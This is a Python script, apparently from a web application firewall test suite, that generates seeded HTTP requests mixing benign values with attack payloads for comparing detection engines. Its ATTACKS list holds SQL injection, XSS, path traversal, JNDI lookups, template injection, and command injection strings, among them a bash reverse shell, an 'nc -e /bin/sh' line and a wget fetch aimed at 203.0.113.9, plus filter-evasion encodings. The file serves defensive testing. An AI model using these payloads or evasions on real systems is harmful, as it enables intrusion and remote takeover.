#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Requests by the thousand: attacks and honest values, changed and put wherever values can stand.

    corpus.py [--seed N] [--count N]      lines for `weir inspect`

The same seed gives the same lines. Used to compare engines with each other, never as a measure of
what is found.
"""
import argparse
import json
import random
import sys
from urllib.parse import quote, quote_from_bytes

from waf_lines import line_of

ATTACKS = [
    "1' OR '1'='1", "' UNION SELECT name, pass FROM users-- -", "1; DROP TABLE orders",
    "admin'/**/AND/**/SLEEP(5)#", "1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),0x3a)x)a)",
    "'; EXEC xp_cmdshell('dir') --", "1 procedure analyse(extractvalue(rand(),1),1)",
    "waitfor delay '0:0:9'", "pg_sleep(10)", "0x31 or 1=1", "{\"$gt\": \"\"}", "[$ne]=1",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert`1`>",
    "\"><iframe src=javascript:alert(1)>", "<a href=\"jAvAsCrIpT:x()\">", "<body background=x>",
    "<style>@import'x'</style>", "expression(alert(1))", "<math><mi xlink:href=data:x,y>",
    "document.cookie", "eval(String.fromCharCode(97))", "{{constructor.constructor('x')()}}",
    "../../../../etc/passwd", "..\\..\\windows\\system32\\cmd.exe", "....//....//etc/shadow",
    "/proc/self/environ", ".htaccess", "%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", "WEB-INF/web.xml",
    "http://203.0.113.9/shell.php?", "ftp://evil.example/x.txt", "file:///etc/hosts",
    "; cat /etc/passwd", "| nc -e /bin/sh 203.0.113.9 4444", "`id`", "$(uname -a)", "&& ping x",
    "wget http://203.0.113.9/x.sh", "/bin/bash -i >& /dev/tcp/203.0.113.9/1 0>&1", "cmd.exe /c dir",
    "powershell -enc AAAA", "Get-ChildItem C:", "() { :; }; echo x", "c''at /e?c/p*d", "$IFS$9id",
    "<?php phpinfo(); ?>", "php://filter/read=convert.base64-encode/resource=x", "phar://x",
    "base64_decode('eA==')", "system($_POST['x'])", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "$_SERVER['HTTP_X']", "<?= 7*7 ?>", "_nd_ch_('require')", "process.binding('spawn_sync')",
    "${jndi:ldap://203.0.113.9/a}", "${${lower:j}ndi:rmi://x/a}", "java.lang.Runtime", "rO0ABXNy",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}", "org.apache.struts2.ServletActionContext",
    "\r\nSet-Cookie: a=b", "\nHTTP/1.1 200 OK\n\n<html>", "GET /admin HTTP/1.1", "x\r\nHost: y",
    "(&(uid=*)(cn=*))", "*)(objectClass=*", "<!--#exec cmd=\"id\"-->", "<!ENTITY x SYSTEM \"y\">",
    "JSESSIONID=1", "phpsessid", "nikto", "sqlmap/1.5", "nessus", "w3af.org", "masscan/1.0",
]
HONEST = [
    "", "1", "42", "-7", "3.14", "hello", "Hello, World", "O'Reilly", "AT&T", "2024-05-01",
    "10:30", "jane.doe+news@example.com", "https://example.com/a?b=c#d", "C++ and C#",
    "50% off", "a/b/c", "select a colour from the list", "the union of two sets", "or", "and 1",
    "Grüße aus Köln", "日本語のテキスト", "naïve café", "emoji 🙂",
    "550e8400-e29b-41d4-a716-446655440000",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "I like <3 you", "x < y && y > z", "if (a) then b",
    "script", "alert", "exec summary", "update your profile", "drop in", "insert coin", "cat", "id",
    "Dear Sir or Madam,\nplease find attached the order.", "key=value", "[1,2,3]", "{}", "#hash",
    "aGVsbG8gd29ybGQ=", "A" * 300, "lorem ipsum dolor sit amet " * 12, "\t", " ", "\"quoted\"",
]
NAMES = ["id", "q", "name", "user", "page", "data", "url", "file", "cmd", "token", "json.a", "x[0]",
         "a.b", "_method", "sort by", "<b>", "select", "café"]
HEADERS = ["User-Agent", "Referer", "X-Forwarded-For", "X-Custom", "Accept-Language", "Range",
           "Authorization", "Content-Encoding", "Accept", "Accept-Charset", "X-File-Name"]
LEAKS = [
    "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server",
    "ORA-00933: SQL command not properly ended", "Microsoft OLE DB Provider for SQL Server",
    "<b>Warning</b>: mysql_fetch_array() expects parameter 1", "<?php echo 1; ?>", "<%@ page x %>",
    "Exception in thread \"main\" java.lang.NullPointerException\n\tat a.b(C.java:1)",
    "<title>Index of /backup</title>", "[native code]", "Fatal error: Uncaught Exception",
    "<h1>Welcome</h1><p>Nothing to see.</p>", "{\"ok\": true}", "PostgreSQL query failed: ERROR",
    "Server Error in '/' Application.", "#!/bin/sh\nexit 0", "<html><body>It works</body></html>",
]


class Corpus:
    def __init__(self, seed):
        self.random = random.Random(seed)

    # ---- changes of a value ----

    def flip_case(self, text):
        return "".join(c.upper() if self.random.random() < 0.5 else c.lower() for c in text)

    def space_out(self, text):
        return text.replace(" ", self.random.choice(["/**/", "\t", "  ", "%20", "+", "\n", "\x0b"]))

    def entities(self, text):
        return "".join(f"&#{ord(c)};" if self.random.random() < 0.3 else c for c in text)

    def percent(self, text):
        return "".join(f"%{b:02x}" if self.random.random() < 0.5 else chr(b)
                       for b in text.encode("utf-8") if b < 128)

    def unicode_escape(self, text):
        return "".join(f"%u{ord(c):04x}" if self.random.random() < 0.3 else c for c in text)

    def backslash_escape(self, text):
        return "".join(f"\\x{ord(c):02x}" if ord(c) < 256 and self.random.random() < 0.3 else c
                       for c in text)

    def cut(self, text):
        return text[:self.random.randrange(len(text) + 1)]

    def insert(self, text):
        at = self.random.randrange(len(text) + 1)
        odd = self.random.choice(["\0", "'", "\"", "`", "\\", "%", "%0", "%zz", ";", "--", "<", "é",
                                  "\x7f", "\ufeff", "/*", "*/", "&", "="])
        return text[:at] + odd + text[at:]

    def join(self, text):
        return text + self.random.choice([" ", "", ";", "&", ","]) + self.random.choice(HONEST)

    def value(self):
        text = self.random.choice(ATTACKS if self.random.random() < 0.6 else HONEST)
        changes = [self.flip_case, self.space_out, self.entities, self.percent, self.cut,
                   self.unicode_escape, self.backslash_escape, self.insert, self.join]
        for _ in range(self.random.choice([0, 0, 0, 1, 1, 2, 3])):
            text = self.random.choice(changes)(text)
        return text

    # ---- places ----

    def head(self, method, uri, headers=()):
        lines = [f"{method} {uri} HTTP/1.1", "Host: www.example.net",
                 "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", "Accept: text/html,*/*;q=0.8"]
        seen = {line.partition(":")[0].lower() for line in headers}
        lines = [line for line in lines if line.partition(":")[0].lower() not in seen]
        return ("\r\n".join(lines + list(headers)) + "\r\n\r\n").encode("utf-8")

    def post(self, kind, body, headers=()):
        return self.head("POST", f"/{self.random.choice(['api', 'login', 'x/y.php'])}",
                         [f"Content-Type: {kind}", f"Content-Length: {len(body)}",
                          *headers]) + body

    def pairs(self, escape):
        made = []
        for _ in range(self.random.randrange(1, 5)):
            name = self.random.choice(NAMES) if self.random.random() < 0.9 else self.value()
            made.append(escape(name) + "=" + escape(self.value()))
        return "&".join(made)

    def escape(self, text):
        """As a browser does it, or as little as HTTP lets through."""
        raw = text.encode("utf-8", "surrogateescape")
        if self.random.random() < 0.7:
            return quote_from_bytes(raw)
        return quote(text, safe="'\"<>()[]{};:,./?!@$*|`\\^~-=")

    def in_query(self):
        return self.head("GET", f"/list?{self.pairs(self.escape)}")

    def in_path(self):
        return self.head("GET", f"/{quote(self.value())}/{self.random.choice(['', 'a.html'])}")

    def in_form(self):
        return self.post("application/x-www-form-urlencoded", self.pairs(self.escape).encode())

    def in_json(self):
        document = {self.random.choice(NAMES): self.value(), "n": 7, "t": True,
                    "in": {"list": [self.value(), 1, None], "x": {"y": self.value()}}}
        return self.post("application/json", json.dumps(document).encode())

    def in_xml(self):
        def text(value):
            kept = "".join(c for c in value if c in "\t\n" or ord(c) >= 32)
            return kept.replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;")
        inside = f"<c>{text(self.value())}</c>"
        body = f"<?xml version=\"1.0\"?><a b=\"{text(self.value())}\">{inside}</a>"
        return self.post("text/xml", body.encode("utf-8"))

    def in_multipart(self):
        def clean(value):
            return value.replace("\r", "").replace("\n", "").replace("\"", "").replace("\\", "")
        name = self.value() if self.random.random() < 0.3 else "upload"
        file = self.value() if self.random.random() < 0.3 else "photo.jpg"
        body = (f"--xyz\r\nContent-Disposition: form-data; name=\"{clean(name)}\"\r\n\r\n"
                f"{self.value()}\r\n--xyz\r\nContent-Disposition: form-data; name=\"f\"; "
                f"filename=\"{clean(file)}\"\r\nContent-Type: text/plain\r\n\r\n"
                f"{self.value()}\r\n--xyz--\r\n")
        return self.post("multipart/form-data; boundary=xyz", body.encode("utf-8"))

    def field(self, text):
        return text.replace("\r", " ").replace("\n", " ").replace("\0", " ").strip(" \t")

    def in_cookie(self):
        pairs = [f"{self.random.choice(['sid', 'lang', 'a.b'])}={self.field(self.value())}"
                 for _ in range(self.random.randrange(1, 4))]
        return self.head("GET", "/", ["Cookie: " + "; ".join(pairs)])

    def in_header(self):
        name = self.random.choice(HEADERS)
        return self.head("GET", "/", [f"{name}: {self.field(self.value())}"])

    def other(self):
        method = self.random.choice(["HEAD", "OPTIONS", "PUT", "TRACE", "PROPFIND", "FOO"])
        return self.head(method, "/a.bak", ["Content-Length: 0"])

    def request(self):
        places = [self.in_query] * 4 + [self.in_form] * 4 + [self.in_json] * 2 + [
            self.in_xml, self.in_multipart, self.in_cookie, self.in_header, self.in_path]
        return self.other() if self.random.random() < 0.02 else self.random.choice(places)()

    def response(self):
        body = (self.random.choice(LEAKS) + "\n" + self.random.choice(HONEST)).encode("utf-8")
        status = self.random.choice([200, 200, 200, 404, 500])
        return (f"HTTP/1.1 {status} -\r\nContent-Type: text/html; charset=utf-8\r\n"
                f"Content-Length: {len(body)}\r\n\r\n").encode() + body


def lines(seed=1, count=2000):
    corpus = Corpus(seed)
    for number in range(count):
        response = corpus.response() if number % 8 == 0 else None
        request = corpus.request()
        if response and request.startswith(b"HEAD "):  # which is answered without a body
            response = response[:response.index(b"\r\n\r\n") + 4]
        yield line_of(f"corpus {seed}-{number}", request, response=response)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--count", type=int, default=2000)
    args = parser.parse_args()
    for line in lines(args.seed, args.count):
        sys.stdout.write(line + "\n")


if __name__ == "__main__":
    main()
